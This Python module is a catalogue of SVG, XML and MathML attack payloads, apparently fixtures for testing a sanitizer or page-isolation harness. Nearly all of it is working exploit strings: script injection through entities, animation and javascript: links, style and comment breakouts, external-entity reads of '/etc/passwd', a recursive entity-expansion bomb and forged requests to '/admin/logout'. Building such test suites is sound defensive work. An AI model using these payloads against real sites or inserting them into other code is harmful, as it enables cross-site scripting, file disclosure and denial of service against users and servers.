"""Payloads that are SVG, in each place that a page has for it, or by themselves. Words as in ``frames``."""

# ruff: noqa: E501 - a payload is one line

from __future__ import annotations

_OPEN = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='99' height='99'"

DRAWN = {
    "svg in every place": "<img src=/evil.svg><picture><source srcset=/evil.svg><img></picture><object data=/evil.svg type=image/svg+xml width=9 height=9></object><embed src=/evil.svg width=9 height=9><iframe src=/evil.svg></iframe><input type=image src=/evil.svg><video poster=/evil.svg></video><link rel=icon href=/evil.svg><style>p{background:url(/evil.svg);mask:url(/evil.svg#a);cursor:url(/evil.svg),auto;list-style:url(/evil.svg)}</style><p>x",
    "use of what is outside": "<svg><use href='/evil.svg#a'/><use xlink:href='OUT/a#a'/><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x'/></svg>",
    "links that are drawn": "<svg><a id=go xlink:href='javascript:RUN' xlink:show=new><text>x</text></a><a id=go href='&#1;javascript:RUN' target=_blank><text>x</text></a></svg>",
    "animated by a path of its own": "<svg width=99 height=99><rect width=9 height=9><animate attributeName=cursor values=\"image-set('/admin/logout' 1x),auto\" dur=1s /><set attributeName=mask to=\"image-set('/admin/logout' 1x)\"/><set attributeName=fill to='url(/admin/logout#a)'/></rect><image width=9 height=9><set attributeName=href to=/admin/logout /></image></svg>",
    "animated to a script": "<svg><a id=go><set attributeName='xlink:href' to='javascript:RUN'/><animate attributeName=href from='javascript:RUN' by=x /><animate attributeName='&#x68;ref' values='a;java&#9;script:RUN' dur=1s /><text>x</text></a></svg>",
    "animated frames": "<svg><foreignObject><iframe><set attributeName=src to='javascript:RUN'/></iframe></foreignObject><set href=#go attributeName=href to='javascript:RUN'/><a id=go><text>x</text></a></svg>",
    "filters that fetch": "<svg><filter id=f><feImage xlink:href='OUT/a'/><feImage href='/evil.svg'/></filter><rect filter='url(#f)' width=9 height=9 /><cursor xlink:href=OUT/b /><font-face-uri xlink:href=OUT/c /><color-profile xlink:href=OUT/d /><tref xlink:href=OUT/e#a /></svg>",
    "styles in svg": "<svg><style><![CDATA[@import 'OUT/a';]]></style><style>&lt;/style&gt;&lt;img src=x onerror=RUN&gt;</style><style><a>@import 'OUT/b';</a></style><defs><style>@imp<!-- -->ort 'OUT/c';</style></defs></svg>",
    "title and desc": "<svg><title><style><img src=x onerror=RUN></style></title><desc><noscript><img src=x onerror=RUN></noscript></desc></svg>",
    "breaking out of svg": "<svg><p><style><!--</style><img src=x onerror=RUN>--></style></svg><svg><b><font color=x><script>RUN</script></font></b></svg>",
    "svg by events": "<svg onload=RUN onunload=RUN onzoom=RUN><g onclick=RUN onfocusin=RUN tabindex=0 autofocus><animateMotion onend=RUN dur=1ms /><handler type=text/javascript ev:event=load>RUN</handler><listener event=load handler=#a /></g></svg>",
}  # fmt: skip

DRAWINGS = {
    "entity that is a script": ("image/svg+xml", f"<!DOCTYPE svg [<!ENTITY a \"<script xmlns='http://www.w3.org/2000/svg'>RUN</script>\"><!ENTITY b 'javascript:RUN'>]>{_OPEN}>&a;<a href='&b;' id='go'><text y='20'>x</text></a></svg>"),
    "entity from outside": ("image/svg+xml", f"<!DOCTYPE svg SYSTEM 'OUT/d.dtd' [<!ENTITY a SYSTEM 'OUT/a'><!ENTITY % b SYSTEM 'OUT/b'>%b;<!ENTITY c SYSTEM 'file:///etc/passwd'>]>{_OPEN}><text>&a;&c;</text></svg>"),
    "entity without an end": ("image/svg+xml", "<!DOCTYPE svg [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY {two} '{('&' + one + ';') * 9}'>" for one, two in zip("abcdefgh", "bcdefghi", strict=True)) + f"]>{_OPEN}><text>&i;</text><script>RUN</script></svg>"),
    "attribute by its type": ("image/svg+xml", f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'RUN'><!ATTLIST image href CDATA 'OUT/a' onerror CDATA 'RUN'>]>{_OPEN}><image width='9' height='9'/></svg>"),
    "sheets of all types": ("image/svg+xml", f"<?xml version='1.0'?><?xml-stylesheet href='OUT/a.css' type='text/css'?><?xml-stylesheet type='text/xsl' href='/evil.xsl'?><?xml-stylesheet type='text/css' href='data:text/css,@import \"OUT/b\"'?><?xml-stylesheet href='#s' type='text/xml'?>{_OPEN}><script>RUN</script></svg>"),
    "sheet that ends its instruction": ("image/svg+xml", f"<?xml-stylesheet href='a&quot;?&gt;&lt;script xmlns=\"http://www.w3.org/1999/xhtml\">RUN&lt;/script>'?>{_OPEN}/>"),
    "script of another name": ("image/svg+xml", f"{_OPEN} xmlns:h='http://www.w3.org/1999/xhtml' xmlns:s='http://www.w3.org/2000/svg'><h:script>RUN</h:script><s:script>RUN</s:script><h:body onload='RUN'/><h:img src='x' onerror='RUN'/><SCRIPT>RUN</SCRIPT></svg>"),
    "html within": ("image/svg+xml", f"{_OPEN}><foreignObject width='99' height='99'><html xmlns='http://www.w3.org/1999/xhtml'><head><base href='OUT/'/><meta http-equiv='refresh' content='0;url=OUT/a'/><link rel='stylesheet' href='OUT/b'/></head><body onload='RUN'><iframe src='javascript:RUN'/><iframe srcdoc='&lt;script>RUN&lt;/script>'/><form action='OUT/c'><button id='go'>x</button></form></body></html></foreignObject></svg>"),
    "data in a section": ("image/svg+xml", f"{_OPEN}><style><![CDATA[@import 'OUT/a';</style><script>RUN</script>]]></style><script><![CDATA[RUN]]></script></svg>"),
    "that is not well formed": ("image/svg+xml", f"{_OPEN}><g><script>RUN<image href='OUT/a' onerror=RUN</g><p:q:script xmlns:p='http://www.w3.org/2000/svg'>RUN</svg>"),
    "that is html": ("image/svg+xml", "<!doctype html><html><body onload=RUN><script>RUN</script><img src=OUT/a>"),
    "with a base of its own": ("image/svg+xml", f"{_OPEN} xml:base='OUT/'><image href='a' width='9' height='9'/><use href='b#c'/><a href='javascript:RUN' id='go'><text y='9'>x</text></a></svg>"),
    "events of xml": ("image/svg+xml", f"{_OPEN} xmlns:ev='http://www.w3.org/2001/xml-events'><script ev:event='load' ev:handler='#a'/><handler id='a' type='application/ecmascript'>RUN</handler><set ev:event='load' attributeName='onload' to='RUN'/></svg>"),
    "utf-16 that says utf-8": ("image/svg+xml; charset=utf-8", "\xff\xfe" + "".join(f"{sign}\0" for sign in f"{_OPEN} onload='RUN'><script>RUN</script></svg>")),
    "mathml that acts": ("application/mathml+xml", "<math xmlns='http://www.w3.org/1998/Math/MathML' xmlns:xlink='http://www.w3.org/1999/xlink'><maction actiontype='statusline#OUT/a' xlink:href='javascript:RUN' id='go'><mi>x</mi></maction><annotation-xml encoding='text/html'><img xmlns='http://www.w3.org/1999/xhtml' src='OUT/b' onerror='RUN'/></annotation-xml></math>"),
}  # fmt: skip
